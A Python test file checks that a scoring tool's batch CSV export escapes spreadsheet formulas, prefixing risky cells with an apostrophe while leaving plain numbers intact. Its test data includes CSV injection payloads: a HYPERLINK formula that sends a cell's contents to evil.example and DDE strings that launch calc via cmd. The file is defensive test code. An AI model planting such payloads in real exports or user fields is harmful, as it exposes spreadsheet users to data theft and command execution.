"""No CSV jixiao writes runs a formula in Excel or WPS (issue 10, defect 11).

Names, units, indicator names and file names from the input reach the batch
CSVs; a cell starting with = + - @ TAB or CR is prefixed with ' (OWASP, CSV
injection), except a cell that is wholly a number: a stated total of -3.5
stays -3.5, a figure.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from cli_tools import car, invoke
from hypothesis import given
from hypothesis import strategies as st

from scoring.batch import csv_cell, csv_row

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+SUM(1,2)", "-1+cmd|' /C calc'!A0", "@SUM(1)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1E+2", "-1E+2"),
        ("- 3", "'- 3"),
        ("更新公务用车", "更新公务用车"),
        (None, ""),
    ],
)
def test_a_cell(value: str | None, written: str) -> None:
    assert csv_cell(value) == written


_cells = st.one_of(
    st.none(),
    st.text(max_size=6),
    st.sampled_from(["=1", "-3.5", "- 3", "\t", "@", "+2", "优"]),
    st.integers(),
    st.decimals(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.lists(st.integers(), max_size=2),
)


@given(st.lists(_cells, max_size=12))
def test_a_row_is_its_cells(values: list[object]) -> None:
    """csv_row's short cuts give what csv_cell gives, cell by cell."""
    row = {f"c{i}": v for i, v in enumerate(values)}
    assert csv_row(row, list(row)) == [csv_cell(v) for v in values]
    assert csv_row({"a": Decimal("-0"), "b": "-x"}, ["b", "a"]) == ["'-x", "-0"]


def test_a_hostile_table_in_a_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "=cmd|' -C calc'!A0"  # the file's path is in every row: source, file, id
    folder.mkdir()
    data = car(name=PAYLOADS[0], unit=PAYLOADS[3], authority="\t=1+1")
    data["stated"]["total"] = -3.5
    data["indicators"][0]["name"] = PAYLOADS[2]
    data["indicators"][1]["name"] = PAYLOADS[1]
    data["indicators"][1]["score"] = -2
    (folder / "@表.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    (folder / "=坏表.yaml").write_text("kind: [\n", encoding="utf-8")  # an error row in errors.csv
    out = tmp_path / "结果"
    monkeypatch.chdir(tmp_path)
    result = invoke(["batch", folder.name, "-o", out])  # relative: the source cells start with "="
    assert result.exit_code == 2, result.output
    cells = {}
    for name in ("assessments.csv", "findings.csv", "errors.csv"):
        rows = list(csv.reader(io.StringIO((out / name).read_text(encoding="utf-8-sig"), newline="")))
        cells[name] = [c for row in rows[1:] for c in row]
        assert rows[1:], name
        for c in cells[name]:
            assert not c.startswith(FORMULA_START) or c.lstrip("+-").replace(".", "", 1).isdigit(), (name, c)
    assert "'" + PAYLOADS[0] in cells["assessments.csv"] and "'" + PAYLOADS[3] in cells["assessments.csv"]
    assert any(c.startswith("'=cmd") for c in cells["errors.csv"])
    assert "-3.5" in cells["assessments.csv"]  # a figure stays a figure
    assert "-2" in cells["findings.csv"]  # A102: the stated score, as published
